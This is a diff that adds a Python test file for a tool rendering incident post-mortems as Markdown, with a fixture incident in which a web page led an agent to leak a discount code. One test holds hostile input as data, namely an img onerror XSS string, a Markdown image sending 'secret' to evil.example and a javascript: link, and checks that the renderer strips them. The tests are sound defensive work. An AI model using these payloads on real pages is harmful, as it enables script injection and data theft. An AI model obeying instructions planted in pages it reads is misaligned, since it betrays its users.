@@ -1,0 +1,68 @@
+"""The Markdown post-mortem: the brief's sections, in order, with inert incident text."""
+
+from server.report import md, render_markdown
+from store.models import ActionItem, Analysis, Category, Incident, TimelineEvent
+from tests.conftest import FIXED_NOW
+from tests.test_tools import draft
+
+SECTIONS = [
+    "# Post-mortem:",
+    "## Description",
+    "## Timeline",
+    "## Root cause analysis: 5 whys",
+    "### Root cause",
+    "### Contributing factors",
+    "### Novelty and similar past incidents",
+    "## Model behavior",
+    "**Deterministic or probabilistic:**",
+    "## Action items",
+]
+
+
+def incident(**changes: object) -> Incident:
+    base = Incident(
+        id="INC-5",
+        title="Agent leaked a discount code",
+        category=Category.PROMPT_INJECTION,
+        severity="SEV2",
+        triage="full",
+        created_at=FIXED_NOW,
+        resolved_at=FIXED_NOW,
+        status="resolved",
+        description="A web page told the agent to reveal codes.",
+        timeline=[TimelineEvent(at=FIXED_NOW, kind="detected", description="Alert fired")],
+    )
+    return base.model_copy(update=changes)
+
+
+def test_report_has_the_brief_sections_in_order() -> None:
+    analysis = Analysis(**draft().model_dump(), generated_by="openai", llm_model="m", created_at=FIXED_NOW)
+    item = ActionItem(
+        id="AI-1",
+        incident_id="INC-5",
+        title="Strip tool output of instructions",
+        owner="sec",
+        priority="P0",
+        created_at=FIXED_NOW,
+        status="completed",
+    )
+    text = render_markdown(incident(analysis=analysis, action_items=[item]), similar=[], now=FIXED_NOW)
+    positions = [text.index(s) for s in SECTIONS]
+    assert positions == sorted(positions)
+    assert "| Severity | SEV2 |" in text and "- [x] **P0** Strip tool output of instructions" in text
+    assert text.count("**Why ") == 5 and "A fix must pass 50 clean runs" in text
+    assert "drafted by `openai`" in text and "review before publishing" in text
+
+
+def test_without_analysis_the_report_says_how_to_draft_and_asks_for_model_behavior() -> None:
+    text = render_markdown(incident(), similar=[], now=FIXED_NOW)
+    assert "postmortem draft INC-5" in text and "what did the model say or do" in text
+
+
+def test_incident_text_cannot_inject_html_images_or_script_links() -> None:
+    evil = incident(
+        description="<img src=x onerror=alert(1)> ![t](https://evil.example/?q=secret) [c](javascript:alert(1))"
+    )
+    text = render_markdown(evil, similar=[], now=FIXED_NOW)
+    assert "<img" not in text and "![t](" not in text and "(javascript:" not in text
+    assert md("a & b < c") == "a &amp; b &lt; c"
